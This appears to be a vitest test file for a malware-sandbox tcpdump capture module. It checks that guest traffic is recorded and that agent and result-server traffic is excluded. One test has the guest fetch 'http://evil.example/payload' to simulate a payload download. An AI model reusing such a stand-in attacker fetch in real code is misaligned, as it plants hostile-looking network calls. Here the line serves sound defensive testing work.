// Packet capture against a real guest (network namespace) and real tcpdump: what the guest sends to
// "the internet" lands in the pcap, the agent's and result server's traffic does not; tcpdump's own
// errors come back as clear rejections; the doctor's check tells what is wrong. The oracle that
// reads the pcap is tcpdump itself (`tcpdump -r FILE -n`).
import { execFile, type ChildProcess } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createNetnsGuest, type NetnsGuest } from '../../../test/guests/netns-guest'
import { captureFilter, checkCapture, startCapture, type CaptureOptions } from './tcpdump'

const run = promisify(execFile)
const TCPDUMP = '/usr/bin/tcpdump'

function finished(child: ChildProcess): Promise<number | null> {
  child.stdout?.resume()
  child.stderr?.resume()
  return new Promise((resolve) => child.once('close', (code) => resolve(code)))
}

/** The packets of a pcap as tcpdump prints them. */
async function readPcap(file: string): Promise<string[]> {
  const { stdout } = await run(TCPDUMP, ['-r', file, '-n'])
  return stdout.split('\n').filter(Boolean)
}

describe('tcpdump capture', () => {
  let g: NetnsGuest
  let dir: string
  let rs: Server
  let rsPort: number
  let other: Server
  let otherPort: number

  const listen = async (ip: string): Promise<[Server, number]> => {
    const s = createServer((c) => { c.resume(); c.on('end', () => c.end()) })
    await new Promise<void>((r) => s.listen(0, ip, r))
    return [s, (s.address() as { port: number }).port]
  }

  beforeAll(async () => {
    g = await createNetnsGuest({ index: 14 })
    dir = mkdtempSync(path.join(tmpdir(), 'aviary-capture-'))
    ;[rs, rsPort] = await listen(g.hostIp)
    ;[other, otherPort] = await listen(g.hostIp)
  })
  afterAll(async () => {
    rs?.close()
    other?.close()
    await g?.close()
    if (dir) rmSync(dir, { recursive: true, force: true })
  })

  const options = (file: string): CaptureOptions => ({
    tcpdump: TCPDUMP, iface: g.hostIf, guestIp: g.guestIp, agentPort: 8000,
    resultserver: { ip: g.hostIp, port: rsPort }, file: path.join(dir, file)
  })

  it("builds Cuckoo's filter", () => {
    const o = options('x.pcap')
    expect(captureFilter(o)).toBe(
      `host ${g.guestIp} and not ( dst host ${g.guestIp} and dst port 8000 ) and not ( src host ${g.guestIp} and src port 8000 )` +
      ` and not ( dst host ${g.hostIp} and dst port ${rsPort} ) and not ( src host ${g.hostIp} and src port ${rsPort} )`)
    expect(captureFilter({ ...o, debug: true, bpf: 'not arp' })).toBe(`host ${g.guestIp} and ( not arp )`)
  })

  it('captures the guest talking to the internet, not to the agent or the result server', async () => {
    await g.startAgent([process.execPath, '-e', `require('http').createServer((q, s) => s.end('ok')).listen(8000, '0.0.0.0')`])
    const o = options('dump.pcap')
    const capture = await startCapture(o)
    // The control: Cuckoo's sniffer.debug mode captures everything of the guest on the same wire.
    const all = { ...o, debug: true, file: path.join(dir, 'debug.pcap') }
    const debugCapture = await startCapture(all)

    // Host → agent (guest:8000), as the GuestManager does.
    expect(await (await fetch(`http://${g.guestIp}:8000/status`)).text()).toBe('ok')
    // Guest → result server, and guest → another port of the host (must be captured).
    const send = (port: number): string =>
      `const s = require('net').connect(${port}, '${g.hostIp}', () => s.end('upload'.repeat(100))); s.on('data', () => {}); s.on('close', () => {})`
    expect(await finished(g.exec([process.execPath, '-e', send(rsPort)]))).toBe(0)
    expect(await finished(g.exec([process.execPath, '-e', send(otherPort)]))).toBe(0)
    // Guest → internet: DNS + HTTP.
    expect(await finished(g.exec([process.execPath, '-e', `fetch('http://evil.example/payload').then((r) => r.text())`]))).toBe(0)
    expect(g.http.requests.some((r) => r.url === '/payload')).toBe(true)

    await Promise.all([capture.stop(), debugCapture.stop()])
    await capture.stop() // idempotent
    const stats = capture.stats()
    expect(stats?.droppedByKernel).toBe(0)
    expect(stats?.captured).toBeGreaterThan(0)
    const everything = await readPcap(all.file)
    expect(everything.filter((p) => p.includes(`${g.guestIp}.8000`)).length).toBeGreaterThan(0)
    expect(everything.filter((p) => p.includes(`${g.hostIp}.${rsPort}`)).length).toBeGreaterThan(0)
    const packets = await readPcap(o.file)
    expect(packets).toHaveLength(stats?.captured ?? -1)
    const has = (s: string): boolean => packets.some((p) => p.includes(s))
    expect(has(`> ${g.internetIp}.53:`)).toBe(true)
    expect(packets.some((p) => p.includes('evil.example'))).toBe(true)
    expect(has(`> ${g.internetIp}.80:`)).toBe(true)
    expect(has(`${g.internetIp}.80 > ${g.guestIp}.`)).toBe(true)
    expect(has(`> ${g.hostIp}.${otherPort}:`)).toBe(true)
    // Excluded: agent and result server, both directions.
    expect(packets.filter((p) => p.includes(`${g.guestIp}.8000`))).toEqual([])
    expect(packets.filter((p) => p.includes(`${g.hostIp}.${rsPort}`))).toEqual([])
  })

  it('keeps a burst sent right before stop() whole (ring size, last block flushed)', async () => {
    const o = options('burst.pcap')
    const capture = await startCapture(o)
    const SENT = 5000
    // One datagram first, so the guest has resolved the address (packets queued behind an
    // unresolved ARP entry are dropped by the guest's kernel, never reaching the wire); then the
    // burst. The sender prints how many sends the kernel accepted.
    const sender = `const s = require('dgram').createSocket('udp4'); const b = Buffer.alloc(64); let n = 0; let ok = 0
      const next = (err) => { if (!err && n > 0) ok++; if (n++ >= ${SENT}) { process.stdout.write(String(ok)); return s.close() } s.send(b, 9, '${g.internetIp}', next) }
      s.send(b, 9, '${g.internetIp}', () => setTimeout(() => next(new Error('warm-up')), 300))`
    const sent = Number(await new Promise<string>((resolve) => {
      const child = g.exec([process.execPath, '-e', sender])
      let out = ''
      child.stdout?.on('data', (d: Buffer) => { out += d.toString() })
      child.once('close', () => resolve(out))
    }))
    await capture.stop()
    expect(sent).toBeGreaterThan(SENT * 0.9)
    const { stdout } = await run(TCPDUMP, ['-r', o.file, '-n', 'udp and dst port 9'], { maxBuffer: 64 << 20 })
    // The burst plus the warm-up datagram.
    expect(stdout.split('\n').filter(Boolean)).toHaveLength(sent + 1)
    expect(capture.stats()?.droppedByKernel).toBe(0)
  })

  it('keeps a few packets sent right before stop() (in a block libpcap has not handed over yet)', async () => {
    const o = options('trickle.pcap')
    const capture = await startCapture(o)
    // Three datagrams, far from filling a block: they wait in the open block until its timeout, and
    // stop() must wait for them rather than stop at once.
    const sender = `const s = require('dgram').createSocket('udp4'); let n = 0
      const next = () => { if (n++ === 3) return s.close(); s.send(Buffer.from('trickle ' + n), 7, '${g.internetIp}', next) }
      next()`
    expect(await finished(g.exec([process.execPath, '-e', sender]))).toBe(0)
    await capture.stop()
    const { stdout } = await run(TCPDUMP, ['-r', o.file, '-n', 'udp and dst port 7'])
    expect(stdout.split('\n').filter(Boolean)).toHaveLength(3)
    expect(capture.stats()).toMatchObject({ droppedByKernel: 0 })
  })

  it('a guest that goes on sending: every datagram sent before stop() is in the pcap', async () => {
    const o = options('chatty.pcap')
    const capture = await startCapture(o)
    // A datagram every 20 ms for 4 s, each numbered; the sender prints a number once it is sent.
    const sender = `const s = require('dgram').createSocket('udp4'); let n = 0
      const t = setInterval(() => { const k = ++n; s.send(Buffer.from('seq ' + k), 5, '${g.internetIp}', () => process.stdout.write(k + '\\n')); if (k === 200) { clearInterval(t); setTimeout(() => s.close(), 100) } }, 20)`
    const child = g.exec([process.execPath, '-e', sender])
    let sent = 0
    child.stdout?.on('data', (d: Buffer) => { for (const l of d.toString().split('\n')) if (l) sent = Math.max(sent, Number(l)) })
    await new Promise((r) => setTimeout(r, 1500))
    const before = sent
    await capture.stop()
    await finished(child)
    expect(before).toBeGreaterThan(20)
    const { stdout } = await run(TCPDUMP, ['-r', o.file, '-n', '-A', 'udp and dst port 5'], { maxBuffer: 16 << 20 })
    const seen = new Set([...stdout.matchAll(/seq (\d+)/g)].map((m) => Number(m[1])))
    const missing = Array.from({ length: before }, (_, i) => i + 1).filter((k) => !seen.has(k))
    expect(missing).toEqual([])
  })

  it('packets taken before the filter was set and left out by libpcap do not count as missing', async () => {
    // Traffic the filter excludes (to the result server), as fast as the guest sends, while captures
    // start: libpcap's ring takes some of it before the filter is set, counts it, and leaves it out.
    const flood = g.exec([process.execPath, '-e', `const s = require('dgram').createSocket('udp4'); const b = Buffer.alloc(32)
      const go = () => s.send(b, ${rsPort}, '${g.hostIp}', () => setImmediate(go)); for (let i = 0; i < 8; i++) go(); setTimeout(() => process.exit(0), 30000)`])
    try {
      let seen = 0
      for (let attempt = 0; attempt < 10 && seen === 0; attempt++) {
        const o = options(`prefilter-${attempt}.pcap`)
        const capture = await startCapture(o)
        expect(await finished(g.exec([process.execPath, '-e',
          `const s = require('dgram').createSocket('udp4'); s.send(Buffer.from('kept'), 6, '${g.internetIp}', () => s.close())`]))).toBe(0)
        await capture.stop()
        const st = capture.stats()
        expect(st).toMatchObject({ waited: 'counts', unwritten: 0 })
        const { stdout } = await run(TCPDUMP, ['-r', o.file, '-n'])
        const lines = stdout.split('\n').filter(Boolean)
        expect(lines.filter((l) => l.includes(`> ${g.internetIp}.6:`))).toHaveLength(1)
        expect(lines.filter((l) => l.includes(`${g.hostIp}.${rsPort}`))).toEqual([])
        seen = st?.beforeFilter ?? 0
      }
      expect(seen).toBeGreaterThan(0) // the case was met (else this test checked nothing of it)
    } finally {
      flood.kill('SIGKILL')
    }
  })

  it('rejects a missing interface with tcpdump\'s reason', async () => {
    await expect(startCapture({ ...options('none.pcap'), iface: 'avngnope0' })).rejects.toThrow(/avngnope0.*(No such device|doesn't exist)/)
  })

  it('rejects a bad filter and an unwritable file', async () => {
    await expect(startCapture({ ...options('bad.pcap'), bpf: 'tcp and (( port' })).rejects.toThrow(/syntax error/i)
    await expect(startCapture({ ...options('bad.pcap'), file: path.join(dir, 'no/such/dir/dump.pcap') })).rejects.toThrow(/No such file or directory/)
  })

  it('stop() rejects when tcpdump died during the capture (its interface vanished)', async () => {
    const h = await createNetnsGuest({ index: 15 })
    let closed = false
    try {
      const capture = await startCapture({ ...options('vanish.pcap'), iface: h.hostIf, guestIp: h.guestIp })
      await h.close()
      closed = true
      // Let tcpdump notice (it polls the ring buffer), but do not wait forever.
      for (let i = 0; i < 100 && capture.running(); i++) await new Promise((r) => setTimeout(r, 50))
      expect(capture.running()).toBe(false)
      const err = await capture.stop().then(() => undefined, (e: unknown) => e as Error)
      expect(err?.message).toMatch(/exited during the capture \(1\): tcpdump: pcap_loop: The interface disappeared/)
      console.log(`[tcpdump after its interface vanished] ${err?.message}`)
    } finally {
      if (!closed) await h.close()
    }
  })

  it('checkCapture: ok on a real interface; says what to fix otherwise', async () => {
    expect(await checkCapture(TCPDUMP, g.hostIf)).toMatchObject({ ok: true })
    expect(await checkCapture('tcpdump', g.hostIf)).toMatchObject({ ok: true })
    const noIf = await checkCapture(TCPDUMP, 'avngnope0')
    expect(noIf.ok).toBe(false)
    expect(noIf.detail).toContain('avngnope0')
    expect(noIf.fix).toBeTruthy()
    // Real tcpdump, run without privileges: the kernel refuses the raw socket.
    const unprivileged = path.join(dir, 'tcpdump-as-nobody')
    writeFileSync(unprivileged, `#!/bin/sh\nexec setpriv --reuid=65534 --regid=65534 --clear-groups ${TCPDUMP} "$@"\n`, { mode: 0o755 })
    const noPerm = await checkCapture(unprivileged, g.hostIf)
    expect(noPerm.ok).toBe(false)
    expect(noPerm.detail).toMatch(/permission/i)
    expect(noPerm.fix).toContain('setcap cap_net_raw,cap_net_admin=eip')
    // A Cuckoo config's /usr/sbin/tcpdump on a system that has it elsewhere: point there.
    const moved = await checkCapture('/nonexistent/tcpdump', g.hostIf)
    expect(moved).toMatchObject({ ok: false })
    expect(moved.fix).toMatch(/to \/\S*tcpdump \(found in PATH\)/)
    const noBin = await checkCapture('aviary-no-such-tcpdump', g.hostIf)
    expect(noBin).toMatchObject({ ok: false })
    expect(noBin.fix).toContain('apt install tcpdump')
  })
})
